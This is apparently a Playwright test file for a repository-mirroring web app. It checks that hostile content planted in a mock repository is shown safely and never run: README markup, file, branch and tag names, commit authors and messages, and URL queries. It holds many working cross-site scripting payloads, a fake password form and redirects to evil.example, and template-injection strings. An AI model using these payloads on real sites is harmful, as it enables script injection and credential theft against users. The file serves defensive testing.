"""What somebody could hide in a repository, in a real browser: names, words and files that try to run."""

from collections.abc import Sequence
from typing import Final
from urllib.parse import quote

from playwright.async_api import expect

from mirror.core.model import Target
from tests.parts.browser import PATIENCE, Someone, Visitor
from tests.parts.demo import Stage
from tests.parts.forges import Repository
from tests.parts.repos import EPOCH

HIT: Final = "window.hit=document.domain"
SCRIPT: Final = f"<script>{HIT}</script>"
IMAGE: Final = f'"><img src=data: onerror={HIT}>'
README: Final = f"""# <img src=data: onerror={HIT}> hello

{SCRIPT}

[press me](javascript:{HIT}) <a href="javascript:{HIT}">and me</a>
<a href="java&#10;script:{HIT}">and me</a>
[data](data:text/html,{SCRIPT}) ![picture](https://tracker.example/pixel.png) ![p](javascript:{HIT})
<iframe srcdoc="{SCRIPT}"></iframe><object data="data:text/html,{SCRIPT}"></object><embed src="x.svg">
<form action="https://evil.example/"><input name=password><button>Sign in</button></form>
<svg onload={HIT}><use href="data:image/svg+xml,x"></use></svg><math href="javascript:{HIT}">x</math>
<style>body {{ display: none }}</style><link rel=stylesheet href="https://evil.example/x.css">
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">
<div style="position:fixed;inset:0" onmouseover={HIT}>over everything</div>

```html
</code></pre>{SCRIPT}
```
"""
FILES: Final = {
    b"README.md": README.encode(),
    b"page.html": f"<!doctype html><title>x</title>{SCRIPT}<body onload={HIT}>".encode(),
    b"x.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}">{SCRIPT}</svg>'.encode(),
    b"x.xml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'.encode(),
    b"script.js": HIT.encode(),
    b"notes.txt": f"{SCRIPT}\n{IMAGE}\n\xe2\x80\xae reversed \x1b[31m\n".encode("latin-1"),
    IMAGE.encode(): b"a name that is no picture\n",
    b"<script>.py": f'"""{SCRIPT}"""\n'.encode(),
    b"{{ 7 * 7 }}": b"no template\n",
}
BRANCHES: Final = (SCRIPT, f'"><img/src/onerror={HIT}>', "'onfocus='x", "{{7-7}}")


GONE: Final = BRANCHES[1]


def hostile(repository: Repository) -> tuple[Target, Target]:
    """Hostile words wherever git lets somebody put them: main's first and second commit."""
    work = repository.work
    entries = {path: (b"100644", work.blob(data)) for path, data in FILES.items()}
    tree = work.tree(entries)
    who = f"{IMAGE.replace('<', '').replace('>', '')} {SCRIPT.replace('<', '').replace('>', '')}"
    person = f'{who} <"onmouseover={HIT}@example.org> {EPOCH} +0000'
    words = f"tree {tree.decode()}\nauthor {person}\ncommitter {person}\n\n{SCRIPT}\n\n{IMAGE}\n"
    first = work.write(b"commit", words.encode())
    again = f"tree {tree.decode()}\nparent {first.decode()}\nauthor {person}\ncommitter {person}\n\n{IMAGE}\n"
    second = work.write(b"commit", again.encode())
    work.set("main", second)
    for branch in BRANCHES:
        work.set(branch, first)
    work.tag(f"<img/src/onerror={HIT}>", first)
    repository.settle()
    return first, second


async def unharmed(someone: Someone) -> None:
    """Nothing ran, nothing covers the page, and no other host was asked."""
    await expect(someone.page.get_by_role("heading", level=1).first).to_be_visible()
    assert await someone.page.evaluate("window.hit") is None
    tags = "script, iframe, object, embed, base, style, link, meta"
    styled = "[style]:not([data-picture] > .tip, [data-picture] .names)"  # our script places those two
    strange = f"main :is({tags}, {styled}, form[action*='evil.example'])"
    assert await outer(someone, strange) == []
    assert await outer(someone, "a[href^='javascript:' i], a[href^='data:' i]") == []
    assert someone.forgiven() == []


async def outer(someone: Someone, selector: str) -> list[str]:
    """The elements that are there, as text."""
    found: list[str] = await someone.page.locator(selector).evaluate_all(
        "all => all.map((one) => one.outerHTML.slice(0, 200))"
    )
    return found


async def test_what_a_repository_holds_is_shown_and_never_run(visitor: Visitor, stage: Stage) -> None:
    stage.github.add_person("mallory", f"Mallory {IMAGE}")
    repository = stage.github.add_repository("mallory/evil", commits=0)
    repository.description = SCRIPT
    first, second = hostile(repository)
    mallory = await visitor("mallory")
    await mallory.sign_in()
    await mallory.connect()
    await unharmed(mallory)
    await mallory.keep_everything()
    await mallory.go("/mallory/mallory/evil")
    repository.push("main", first)
    await expect(mallory.page.get_by_role("link", name="Check for lost commits in push #2")).to_be_visible(
        timeout=PATIENCE
    )
    base = "/mallory/mallory/evil"
    repository.push(GONE, None)
    await expect(mallory.page.locator("summary", has_text="3 snapshots")).to_be_visible(timeout=PATIENCE)
    for mark in await mallory.page.locator("svg a[data-n]").all():  # what is said of it comes by the script
        await mark.focus()
        await expect(mallory.page.locator(".tip .ref")).to_be_visible()
        await unharmed(mallory)
    pages: Sequence[str] = (
        base,
        f"{base}?at=%231",
        f"{base}/-/pushes",
        f"{base}/-/pushes?part=1",
        f"{base}/-/refs",
        f"{base}/-/refs?state=gone",
        f"{base}/-/refs?state=ever",
        f"{base}/-/restore?at=%231&ref={quote(f'refs/heads/{GONE}')}",
        f"{base}/-/restore?at=%231&ref=refs/heads/main&where=back",
        f"{base}/-/clone",
        f"{base}/-/commits",
        f"{base}/-/commit/{first.decode()}",
        f"{base}/-/commit/{second.decode()}",
        f"{base}/-/lost",
        f"{base}/-/difference?from=%231",
        f"{base}/-/files",
        f"{base}/-/files/README.md?source=1",
        f"{base}/-/settings",
        "/mallory",
        "/mallory?q=%22%3E%3Cscript%3Ewindow.hit%3D1%3C%2Fscript%3E",
        "/mallory?q=script",
        "/mallory/-/activity",
        "/mallory/-/drills",
        "/mallory/-/report",
        "/mallory/-/settings",
        "/mallory/-/settings/audit",
        "/mallory/-/connect",
        "/account",
        "/sign-in?next=%22%3E%3Cscript%3Ewindow.hit%3D1%3C%2Fscript%3E",
        "/account/sure?next=javascript:window.hit=1",
        "/%3Cscript%3Ewindow.hit=1%3C/script%3E",
    )
    for path in pages:
        await mallory.go(path)
        if "part=1" not in path:
            await unharmed(mallory)
    await mallory.go(f"{base}/-/files")
    names: list[str] = await mallory.page.locator("main [data-row] a").evaluate_all(
        "all => all.map((one) => one.href)"
    )
    assert len(names) == len(FILES)
    for address in names:
        await mallory.page.goto(address)
        await unharmed(mallory)
        await mallory.press("Raw")
        kind = await mallory.page.evaluate("document.contentType")
        assert kind == "text/plain", address
        assert await mallory.page.evaluate("window.hit") is None
        assert mallory.forgiven() == []
